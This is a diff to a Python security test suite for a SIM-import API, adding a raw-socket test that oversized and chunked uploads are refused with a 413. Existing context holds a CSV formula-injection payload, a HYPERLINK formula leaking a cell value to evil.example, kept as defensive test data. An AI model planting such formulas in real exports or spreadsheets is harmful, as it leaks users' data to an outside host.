@@ -7,6 +7,8 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
+import itertools
+import socket
 import uuid
 from collections.abc import AsyncIterator, Iterable, Iterator
 
@@ -34,6 +36,7 @@ from tests.api._security_support import (
 )
 from tests.api._support import STRONG_PASSWORD, assert_problem, random_iccid, random_imsi
 from tests.api.conftest import Tenant
+from tests.e2e.topup_support import ApiServer
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2;"Cliquez ici")'
 
@@ -321,3 +324,49 @@ async def test_guessing_one_account_from_many_addresses_is_slowed_down(
         assert int(longer.headers["retry-after"]) == 2
         await asyncio.sleep(2.2)
         assert (await attempt(email, STRONG_PASSWORD)).status_code == 200  # delayed, never locked out
+
+
+def _raw_request(port: int, head: bytes, chunks: Iterable[bytes] = ()) -> tuple[bytes, int]:
+    """Sends `head`, then `chunks` until the server answers; returns (the answer's first bytes, body bytes
+    sent)."""
+    sent = 0
+    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
+        sock.sendall(head)
+        sock.setblocking(False)
+        for chunk in chunks:
+            try:
+                answer = sock.recv(4096)
+                if answer:
+                    return answer, sent
+            except BlockingIOError:
+                pass
+            try:
+                sock.sendall(chunk)
+            except (BlockingIOError, BrokenPipeError, ConnectionResetError):
+                break
+            sent += len(chunk)
+        sock.setblocking(True)
+        return sock.recv(4096), sent
+
+
+def test_a_real_server_refuses_the_upload_without_taking_it_in(settings: Settings) -> None:
+    """Over a socket, under uvicorn: the 10 GB announcement is answered at once; a chunked upload is cut
+    off near the limit while the client is still sending."""
+    limit = 100_000
+    with ApiServer(settings.model_copy(update={"max_upload_body_bytes": limit})) as server:
+        announced = (
+            b"POST /api/v1/sims/import HTTP/1.1\r\nHost: simflow.test\r\n"
+            + f"Content-Type: {MULTIPART}\r\nContent-Length: {10 * 1024**3}\r\n\r\n".encode()
+        )
+        answer, _ = _raw_request(server.port, announced)
+        assert answer.startswith(b"HTTP/1.1 413"), answer
+
+        chunked = (
+            b"POST /api/v1/sims/import HTTP/1.1\r\nHost: simflow.test\r\n"
+            + f"Content-Type: {MULTIPART}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
+        )
+        pieces = itertools.chain([PART_HEAD], itertools.repeat(b"x" * 16_384, 64 * 1024))  # 1 GB offered
+        chunks = (f"{len(piece):x}\r\n".encode() + piece + b"\r\n" for piece in pieces)
+        answer, sent = _raw_request(server.port, chunked, chunks)
+        assert answer.startswith(b"HTTP/1.1 413"), answer
+        assert sent < 50 * limit  # stopped long before the gigabyte (socket buffers hold the rest)
